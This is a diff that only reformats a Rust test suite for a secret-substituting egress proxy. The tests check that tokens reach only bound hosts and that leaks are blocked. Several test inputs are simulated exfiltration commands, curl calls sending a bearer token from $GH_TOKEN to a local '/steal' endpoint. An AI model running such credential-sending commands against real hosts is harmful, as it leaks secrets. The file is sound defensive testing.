@@ -114,7 +114,10 @@ fn setup(extra_config: &str, extra_env: &[(&str, &str)]) -> Setup {
     vars.extend_from_slice(extra_env);
     let d = env.start(&vars);
     for p in [bound.port, other.port] {
-        cli_ok(&env, &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")]);
+        cli_ok(
+            &env,
+            &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
+        );
     }
     cli_ok(&env, &["grant", "local", "SECRET", "GH_TOKEN"]);
     cli_ok(&env, &["grant", "local", "SECRET", "API_KEY"]);
@@ -172,7 +175,10 @@ fn files_holding(dir: &Path, needle: &[u8]) -> Vec<String> {
 fn assert_no_canary(env: &Env) {
     for c in [CANARY, CANARY2] {
         let hits = files_holding(&env.data, c.as_bytes());
-        assert!(hits.is_empty(), "the value of a secret is stored in {hits:?}");
+        assert!(
+            hits.is_empty(),
+            "the value of a secret is stored in {hits:?}"
+        );
         // The worker's log (and every other file the test root holds but the token file).
         let logs: Vec<String> = files_holding(env.root.path(), c.as_bytes())
             .into_iter()
@@ -220,8 +226,14 @@ fn the_upstream_gets_the_value_the_command_only_a_placeholder_and_another_host_a
     );
     let out = v["stdout"].as_str().unwrap().to_string();
     let lines: Vec<&str> = out.lines().collect();
-    assert!(lines[0].starts_with("BLSECRET_") && lines[0].len() == 41, "{out}");
-    assert!(lines[1].starts_with("BLSECRET_") && lines[1] != lines[0], "{out}");
+    assert!(
+        lines[0].starts_with("BLSECRET_") && lines[0].len() == 41,
+        "{out}"
+    );
+    assert!(
+        lines[1].starts_with("BLSECRET_") && lines[1] != lines[0],
+        "{out}"
+    );
     assert_eq!(lines[2], "upstream", "{out}");
     let heads = s.bound.heads();
     assert_eq!(heads.len(), 1, "{heads:?}");
@@ -229,7 +241,10 @@ fn the_upstream_gets_the_value_the_command_only_a_placeholder_and_another_host_a
         heads[0].contains(&format!("Authorization: Bearer {CANARY}\r\n")),
         "{heads:?}"
     );
-    assert!(heads[0].contains(&format!("X-Api-Key: {CANARY2}\r\n")), "{heads:?}");
+    assert!(
+        heads[0].contains(&format!("X-Api-Key: {CANARY2}\r\n")),
+        "{heads:?}"
+    );
     assert!(!heads[0].contains("BLSECRET_"), "{heads:?}");
     let rec = egress(&v);
     assert_eq!(rec[0].1, "allowed", "{rec:?}");
@@ -240,11 +255,15 @@ fn the_upstream_gets_the_value_the_command_only_a_placeholder_and_another_host_a
     );
     // Another allowed host: the placeholder is refused there and recorded as an exfiltration
     // attempt; nothing reaches that server.
-    let cmd = format!("curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{o}/steal");
+    let cmd =
+        format!("curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{o}/steal");
     let (_, st, v, e) = submit(env, "local", &cmd);
     assert_eq!(st, "succeeded", "{e} {v}");
     assert!(
-        v["stdout"].as_str().unwrap().contains("exfiltration attempt"),
+        v["stdout"]
+            .as_str()
+            .unwrap()
+            .contains("exfiltration attempt"),
         "{v}"
     );
     assert!(s.other.heads().is_empty(), "{:?}", s.other.heads());
@@ -272,16 +291,28 @@ fn the_upstream_gets_the_value_the_command_only_a_placeholder_and_another_host_a
     assert!(egress(&v).iter().any(|c| c.1 == "exfiltration"), "{v}");
     assert!(s.other.heads().is_empty(), "{:?}", s.other.heads());
     // A request to the other host without the placeholder goes through untouched.
-    let (_, st, v, _) = submit(env, "local", &format!("curl -sS -m 20 http://127.0.0.1:{o}/plain"));
-    assert_eq!((st.as_str(), v["stdout"].as_str()), ("succeeded", Some("upstream\n")), "{v}");
+    let (_, st, v, _) = submit(
+        env,
+        "local",
+        &format!("curl -sS -m 20 http://127.0.0.1:{o}/plain"),
+    );
+    assert_eq!(
+        (st.as_str(), v["stdout"].as_str()),
+        ("succeeded", Some("upstream\n")),
+        "{v}"
+    );
     assert!(!s.other.heads()[0].contains(CANARY));
     // A bound host that reflects the headers: the value is masked before the command sees it.
-    let cmd = format!("curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/echo");
+    let cmd =
+        format!("curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/echo");
     let (_, st, v, e) = submit(env, "local", &cmd);
     assert_eq!(st, "succeeded", "{e} {v}");
     let out = v["stdout"].as_str().unwrap();
     assert!(
-        out.contains(&format!("Authorization: Bearer {}", "*".repeat(CANARY.len()))),
+        out.contains(&format!(
+            "Authorization: Bearer {}",
+            "*".repeat(CANARY.len())
+        )),
         "{out}"
     );
     // Split, printed, encoded: the command learns only pieces of the placeholder (the bound
@@ -292,9 +323,15 @@ fn the_upstream_gets_the_value_the_command_only_a_placeholder_and_another_host_a
     let (_, st, v, e) = submit(env, "local", &cmd);
     assert_eq!(st, "succeeded", "{e} {v}");
     let out = v["stdout"].as_str().unwrap();
-    assert!(out.contains("X-A: BLSECRET_") && !out.contains(CANARY), "{out}");
+    assert!(
+        out.contains("X-A: BLSECRET_") && !out.contains(CANARY),
+        "{out}"
+    );
     let last = s.bound.heads().last().cloned().unwrap();
-    assert!(last.contains("X-A: BLSECRET_") && !last.contains(CANARY), "{last}");
+    assert!(
+        last.contains("X-A: BLSECRET_") && !last.contains(CANARY),
+        "{last}"
+    );
     // A redirect from the bound host to another host: curl follows it with the placeholder
     // (the proxy never follows redirects), which is refused there.
     let cmd = format!(
@@ -325,9 +362,15 @@ fn an_ungranted_client_gets_no_placeholder_and_the_upstream_no_value() {
     let (_, st, v, e, asked) = submit_asked(env, "bob", &cmd);
     assert_eq!(st, "succeeded", "{e} {v}");
     // A run without secrets: no placeholder, no CA (no TLS cost), nothing shown about secrets.
-    assert_eq!(v["stdout"], "no-placeholder\n0\nno-run-ca\nupstream\n", "{v}");
+    assert_eq!(
+        v["stdout"], "no-placeholder\n0\nno-run-ca\nupstream\n",
+        "{v}"
+    );
     if let Some((pending, shown)) = asked {
-        assert!(pending.get("secrets").is_none() && !shown.contains("uses secret"), "{shown}");
+        assert!(
+            pending.get("secrets").is_none() && !shown.contains("uses secret"),
+            "{shown}"
+        );
     }
     let heads = s.bound.heads();
     assert_eq!(heads.len(), 1, "{heads:?}");
@@ -398,8 +441,7 @@ fn tls_upstream(cfg: Arc<rustls::ServerConfig>) -> Upstream {
 }
 
 #[test]
-fn https_to_a_bound_host_is_terminated_with_the_run_ca_and_the_upstream_verified_against_its_own()
-{
+fn https_to_a_bound_host_is_terminated_with_the_run_ca_and_the_upstream_verified_against_its_own() {
     let root = tempfile::tempdir().unwrap();
     let (ca, cfg) = tls_server(root.path());
     let bound = tls_upstream(cfg.clone());
@@ -411,7 +453,10 @@ fn https_to_a_bound_host_is_terminated_with_the_run_ca_and_the_upstream_verified
     let s = setup(&extra, &[("BL_TEST_TLS_TOKEN", CANARY)]);
     let env = &s.env;
     for p in [bound.port, unbound.port] {
-        cli_ok(env, &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")]);
+        cli_ok(
+            env,
+            &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
+        );
     }
     cli_ok(env, &["grant", "local", "SECRET", "TLS_TOKEN"]);
     // curl verifies the proxy's certificate with the run's bundle (its CA trusted in this run
@@ -432,7 +477,11 @@ fn https_to_a_bound_host_is_terminated_with_the_run_ca_and_the_upstream_verified
     );
     let rec = egress(&v);
     assert_eq!(rec[0].1, "allowed", "{rec:?}");
-    assert_eq!(rec[0].2.as_deref(), Some("carried secret TLS_TOKEN"), "{rec:?}");
+    assert_eq!(
+        rec[0].2.as_deref(),
+        Some("carried secret TLS_TOKEN"),
+        "{rec:?}"
+    );
     assert_eq!(v["egress"][0]["protocol"], "https", "{v}");
     // Another HTTPS host: tunnelled untouched (CONNECT as before, the proxy sees no request);
     // the placeholder the command sends there is only the meaningless string it is.
